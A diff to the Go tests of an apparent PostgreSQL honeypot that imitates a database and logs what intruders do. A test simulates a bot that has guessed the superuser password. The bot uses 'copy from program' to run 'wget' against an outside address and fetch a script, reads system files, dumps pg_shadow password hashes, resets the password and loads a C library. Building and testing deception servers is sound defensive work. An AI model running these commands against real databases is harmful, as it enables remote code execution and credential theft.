@@ -102,7 +102,7 @@ show nonesuch;
 			contains(t, out, v.full(), v.version, "List of databases", "template0", "UTF8", "List of relations", "public | users", "| table | "+v.app.Name, "Did not find any relations.", "List of roles", "List of schemas",
 				v.app.People[0].Email, "api_keys", "ERROR:  42601: syntax error at or near \"selec\"\nLINE 1: selec 1;", "ERROR:  42P01: relation \"nonesuch\" does not exist\nLINE 1: select * from nonesuch;\n                      ^",
 				"ERROR:  42703: column \"nonesuch\" does not exist", "ERROR:  42883: function nonesuch(integer) does not exist", "ERROR:  42501: permission denied for function pg_read_file", "permission denied for view pg_shadow", "ERROR:  42501:", "smtp_password\t",
-				"ERROR:  25006: cannot execute DROP TABLE in a read-only transaction", "ERROR:  25P02: current transaction is aborted", "| t ", "42", "ERROR:  42704: unrecognized configuration parameter \"nonesuch\"", "You are connected to database")
+				"DROP TABLE\n", "ERROR:  25P02: current transaction is aborted", "| f ", "42", "ERROR:  42704: unrecognized configuration parameter \"nonesuch\"", "You are connected to database")
 			kind := map[bool]string{true: "md5", false: "scram-sha-256"}[v.md5]
 			d.Wait(event.AuthAttempt, decoytest.Has(event.Outcome, event.Accepted), decoytest.Has(event.Principal, v.app.Name), decoytest.Has("database", v.app.Name), decoytest.Has(event.SecretKind, kind))
 			d.Wait("query", decoytest.Has(event.Command, "copy users from program 'id';"))
@@ -154,13 +154,27 @@ func TestExtendedProtocol(t *testing.T) {
 	if err := conn.QueryRow(t.Context(), "select email from users where username = $1", "admin").Scan(&email); err != nil || email != "admin@"+v.app.Domain {
 		t.Errorf("%q, %v", email, err)
 	}
-	if _, err := conn.Exec(t.Context(), "delete from users where id = $1", "1"); err == nil || !strings.Contains(err.Error(), "25006") {
-		t.Error(err)
+	if tag, err := conn.Exec(t.Context(), "delete from users where username = $1", "admin"); err != nil || tag.String() != "DELETE 1" {
+		t.Error(tag, err)
 	}
 	if err := conn.QueryRow(t.Context(), "select version()").Scan(&email); err != nil || email != v.full() {
 		t.Errorf("%q, %v", email, err)
 	}
 	d.Wait("query", decoytest.Has("parameters", "'admin'"))
+	// What does something does it once, also when it is described first.
+	var n string
+	if _, err := conn.Exec(t.Context(), "create table once(x text)"); err != nil {
+		t.Error(err)
+	}
+	if tag, err := conn.Exec(t.Context(), "insert into once values ($1)", "a"); err != nil || tag.String() != "INSERT 0 1" {
+		t.Error(tag, err)
+	}
+	if err := conn.QueryRow(t.Context(), "select count(*) from once").Scan(&n); err != nil || n != "1" {
+		t.Errorf("%s rows, %v", n, err)
+	}
+	if tag, err := conn.CopyFrom(t.Context(), pgx.Identifier{"once"}, []string{"x"}, pgx.CopyFromRows([][]any{{"b"}})); err == nil {
+		t.Error(tag, "of a binary COPY, which is not spoken here")
+	}
 }
 
 func TestDeckiesDiffer(t *testing.T) {
@@ -233,6 +247,7 @@ func TestGarbage(t *testing.T) {
 func FuzzQuery(f *testing.F) {
 	f.Add("select a.oid, b as \"Name\" from pg_catalog.pg_class a where x ~ '^(users)$'")
 	f.Add("copy to stdout")
+	f.Add("create temp table if not exists a(b text, primary key (b)); copy a(b) from program $$id$$ with (delimiter ','); insert into a values (1, 'x'), (null); update a set b = 1 where b like 'x%'; drop table a, b")
 	f.Add("copy (select 1) to stdout; begin; select bad from; rollback; show all")
 	h, err := decoy.NewHost(decoytest.Identity(), nil)
 	if err != nil {
@@ -240,7 +255,7 @@ func FuzzQuery(f *testing.F) {
 	}
 	v := newServer(h)
 	f.Fuzz(func(t *testing.T, text string) {
-		c := &conn{server: v, s: &decoy.Session{}, database: v.app.Name, status: 'I'}
+		c := &conn{server: v, s: &decoy.Session{}, user: "postgres", database: v.app.Name, status: 'I'}
 		for _, tokens := range dialect.Split(text) {
 			if o := c.run(text, tokens); o.failed == nil && o.tag == "" {
 				t.Fatal("no answer")
@@ -274,4 +289,73 @@ func TestTooManyConnections(t *testing.T) {
 		}
 	}
 	contains(t, psql(t, d, "postgres", "x", "postgres", "SELECT 1"), "FATAL:  sorry, too many clients already")
+}
+
+// A bot that has guessed the superuser's password runs its program as it does elsewhere, and the server does not contradict itself about who it is.
+func TestSuperuserRunsAProgram(t *testing.T) {
+	t.Parallel()
+	d := decoytest.StartAs(t, identity(t, scrams), "postgres")
+	out := psql(t, d, "postgres", bait.Passwords(d.Host, "postgres", "postgres")[0], "postgres", `\du
+select current_setting($$is_superuser$$), current_setting('transaction_read_only'), pg_is_in_recovery(), current_setting($tz$TimeZone$tz$);
+drop table if exists cmd_out;
+create table cmd_out(cmd_output text);
+copy cmd_out from program 'wget http://203.0.113.9/k.sh; echo x > /tmp/left; id';
+copy cmd_out from program 'cat /tmp/left';
+select * from cmd_out;
+\dt
+copy cmd_out from program 'no-such-program';
+copy (select $$gone$$) to program 'cat > /tmp/out';
+copy cmd_out from '/tmp/out';
+insert into cmd_out values ('one'), ('two');
+select count(*) from cmd_out;
+delete from cmd_out where cmd_output = 'two';
+copy cmd_out from stdin;
+from the client
+\.
+create table cmd_out(x int);
+select pg_read_file('/etc/hostname');
+select usename, passwd from pg_shadow;
+alter user postgres with password 'n3w';
+create function f(text) returns int as '/tmp/l.so', 'f' language c;
+select 'last', cmd_output from cmd_out where cmd_output like 'from%';
+drop table cmd_out;
+select * from cmd_out;
+`)
+	contains(t, out, "Superuser", "| off ", "| f ", "| Etc/UTC", "CREATE TABLE", "COPY 1", "(postgres) gid=", " x\n", "public | cmd_out | table | postgres", "ERROR:  38000: program \"no-such-program\" failed", "INSERT 0 2", "DELETE 1",
+		`relation "cmd_out" already exists`, d.Host.Hostname, "SCRAM-SHA-256$4096:", "ALTER ROLE", `could not access file "/tmp/l.so"`, "last     | from the client", `relation "cmd_out" does not exist`)
+	d.Wait(event.CommandRun, decoytest.Has(event.Command, "wget http://203.0.113.9/k.sh; echo x > /tmp/left; id"), decoytest.Has("user", "postgres"))
+	d.Wait(event.Download, decoytest.Has("url", "http://203.0.113.9/k.sh"))
+	d.Wait("file_written", decoytest.Has("path", "/tmp/out"), decoytest.Has("content", "gone\n"))
+	d.Wait("password_change", decoytest.Has(event.Principal, "postgres"), decoytest.Has(event.Secret, "n3w"))
+}
+
+// What a session leaves is bounded, whatever it makes and however often.
+func TestWhatASessionMakesIsBounded(t *testing.T) {
+	t.Parallel()
+	h, err := decoy.NewHost(decoytest.Identity(), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := &conn{server: newServer(h), s: &decoy.Session{}, user: "postgres", status: 'I'}
+	do := func(text string) {
+		for _, tokens := range dialect.Split(text) {
+			c.run(text, tokens)
+		}
+	}
+	for i := range 3 * maxMade {
+		do(fmt.Sprintf("create table t%d(x text)", i))
+		for range 40 {
+			do(fmt.Sprintf("insert into t%d values ('%s')", i, strings.Repeat("x", 4096)))
+		}
+		do(fmt.Sprintf("insert into t%d select * from t%[1]d; create table u%[1]d as select * from t%[1]d", i))
+	}
+	total := 0
+	for _, made := range c.made {
+		for _, row := range made.Rows {
+			total += len(row[0])
+		}
+	}
+	if len(c.made) > maxMade || total > maxBytes {
+		t.Errorf("%d tables of %d bytes", len(c.made), total)
+	}
 }
